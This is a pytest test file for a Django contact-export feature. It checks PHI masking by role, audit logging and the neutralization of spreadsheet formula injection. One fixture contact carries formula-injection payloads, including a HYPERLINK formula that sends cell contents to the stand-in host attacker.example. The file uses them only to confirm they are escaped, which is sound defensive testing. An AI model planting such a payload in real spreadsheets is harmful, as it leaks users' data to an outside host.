"""Export: PHI columns only with luxmail.export_phi, masked identity otherwise, one audit
event per export with the row count, formula injection neutralized in CSV and XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from contacts import exporting, services
from contacts.exporting import neutralize
from luxmail import roles
from luxmail.models import AuditEvent

pytestmark = pytest.mark.django_db

RULES = {"all": [{"field": "condition", "op": "eq", "value": "E11"}]}


@pytest.fixture
def people(admin):
    services.custom_field_create(key="tier", label="Tier", kind="text", phi=False, actor=admin)
    services.custom_field_create(key="hba1c", label="HbA1c", kind="number", phi=True, actor=admin)
    maria = services.contact_create(
        data={
            "email": "maria.lopez@example.org",
            "first_name": "Maria",
            "last_name": "Lopez",
            "birth_date": "1961-04-02",
            "conditions": "E11.9",
            "custom.tier": "gold",
            "custom.hba1c": "7.1",
        },
        actor=admin,
    )
    evil = services.contact_create(
        data={
            "email": "evil@example.com",
            "first_name": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
            "last_name": "+1+2",
            "custom.tier": "@SUM(1+1)",
            "external_id": "-42",
        },
        actor=admin,
    )
    services.consent_grant(contact=maria, purpose="marketing", source="paper", actor=admin)
    vip = services.contact_list_create(name="VIP", actor=admin)
    services.list_members_add(contact_list=vip, contact_ids=[maria.pk], actor=admin)
    return {"maria": maria, "evil": evil, "vip": vip}


def download(client, **data):
    payload = {"scope": "all", "fmt": "csv", **data}
    response = client.post(reverse("contacts:export"), payload)
    assert response.status_code == 200, response.content[:500]
    assert "no-store" in response["Cache-Control"]
    if payload["fmt"] == "csv":
        body = b"".join(response.streaming_content).decode()
        return list(csv.DictReader(io.StringIO(body)))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralize_prefixes_formula_starters(prefix):
    assert neutralize(prefix + "1+1") == "'" + prefix + "1+1"


def test_neutralize_leaves_plain_values():
    assert neutralize("Maria") == "Maria"
    assert neutralize("a=b") == "a=b"
    assert neutralize(None) == ""
    assert neutralize(True) == "yes"
    assert neutralize(["E11.9", "I10"]) == "E11.9; I10"


@pytest.mark.parametrize("role", [roles.MARKETER, roles.VIEWER])
def test_marketer_and_viewer_export_is_masked_without_phi_columns(staff_client, people, role):
    client = staff_client(role)
    page = client.get(reverse("contacts:export")).content.decode()
    assert "non-PHI columns only" in page and "include_phi" not in page
    rows = download(client, include_phi="on")  # asking is not enough
    maria = next(r for r in rows if r["email (masked)"] == "m***@example.org")
    assert maria["first_name (masked)"] == "M***"
    assert maria["custom.tier"] == "gold" and "custom.hba1c" not in maria
    assert "birth_date" not in maria and "conditions" not in maria
    assert maria["consent_marketing"] == "yes" and maria["lists"] == "VIP"
    flat = str(rows)
    assert (
        "maria.lopez" not in flat
        and "1961" not in flat
        and "E11.9" not in flat
        and "7.1" not in flat
    )
    event = AuditEvent.objects.get(action="contacts.export")
    assert event.details["rows"] == 2 and event.details["phi"] is False and not event.phi
    assert (
        AuditEvent.objects.filter(
            action="phi.access", details__purpose="contacts.export_masked"
        ).count()
        == 1
    )


def test_phi_marketer_export_includes_phi_and_is_audited_once(staff_client, people):
    client = staff_client(roles.PHI_MARKETER)
    rows = download(client, include_phi="on")
    maria = next(r for r in rows if r["email"] == "maria.lopez@example.org")
    assert maria["first_name"] == "Maria" and maria["birth_date"] == "1961-04-02"
    assert maria["conditions"] == "E11.9" and maria["custom.hba1c"] == "7.1"
    event = AuditEvent.objects.get(action="contacts.export")
    assert event.phi and event.details == {
        "rows": 2,
        "phi": True,
        "format": "csv",
        "scope": "all",
        "segment": None,
        "list": None,
    }
    assert (
        AuditEvent.objects.filter(action="phi.access", details__purpose="contacts.export").count()
        == 1
    )
    # Without ticking the box the export has no PHI columns.
    plain = download(client)
    assert "birth_date" not in plain[0] and "email (masked)" in plain[0]


def test_formulas_are_neutralized_in_csv_and_xlsx(staff_client, people):
    client = staff_client(roles.PHI_MARKETER)
    for fmt in ("csv", "xlsx"):
        rows = download(client, include_phi="on", fmt=fmt)
        evil = next(r for r in rows if r["email"] == "evil@example.com")
        assert evil["first_name"] == "'" + '=HYPERLINK("http://attacker.example/?"&A1,"click")'
        assert evil["last_name"] == "'+1+2"
        assert evil["custom.tier"] == "'@SUM(1+1)"
        assert evil["external_id"] == "'-42"
    response = client.post(
        reverse("contacts:export"), {"scope": "all", "fmt": "xlsx", "include_phi": "on"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_export_a_list_or_a_segment(staff_client, people, admin):
    client = staff_client(roles.PHI_MARKETER)
    listed = download(client, scope="list", contact_list=people["vip"].pk, include_phi="on")
    assert [r["email"] for r in listed] == ["maria.lopez@example.org"]
    segment = services.segment_create(name="Diabetics", rules=RULES, actor=admin)
    segmented = download(client, scope="segment", segment=segment.pk, fmt="xlsx", include_phi="on")
    assert [r["email"] for r in segmented] == ["maria.lopez@example.org"]
    scopes = list(
        AuditEvent.objects.filter(action="contacts.export")
        .order_by("id")
        .values_list("details", flat=True)
    )
    assert scopes[0]["scope"] == "list" and scopes[0]["list"] == people["vip"].pk
    assert (
        scopes[1]["scope"] == "segment"
        and scopes[1]["segment"] == segment.pk
        and scopes[1]["rows"] == 1
    )


def test_marketer_cannot_export_a_phi_segment(staff_client, people, admin):
    segment = services.segment_create(name="Diabetics", rules=RULES, actor=admin)
    client = staff_client(roles.MARKETER)
    response = client.post(
        reverse("contacts:export"), {"scope": "segment", "segment": segment.pk, "fmt": "csv"}
    )
    assert response.status_code == 200 and "PHI Marketer role" in response.content.decode()
    assert not AuditEvent.objects.filter(action="contacts.export").exists()


def test_scope_needs_its_choice(staff_client, people):
    response = staff_client(roles.MARKETER).post(
        reverse("contacts:export"), {"scope": "list", "fmt": "csv"}
    )
    assert "Choose the list to export." in response.content.decode()


def test_export_reads_in_chunks_with_one_access(admin, people, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 1)
    prepared = exporting.contacts_export(
        scope=exporting.ExportScope(), fmt="csv", actor=admin, want_phi=True
    )
    rows = list(prepared.rows())
    assert len(rows) == 3 and rows[0][2] == "email"
    assert (
        AuditEvent.objects.filter(action="phi.access", details__purpose="contacts.export").count()
        == 1
    )
    assert not AuditEvent.objects.filter(action="contact.view_phi").exists()
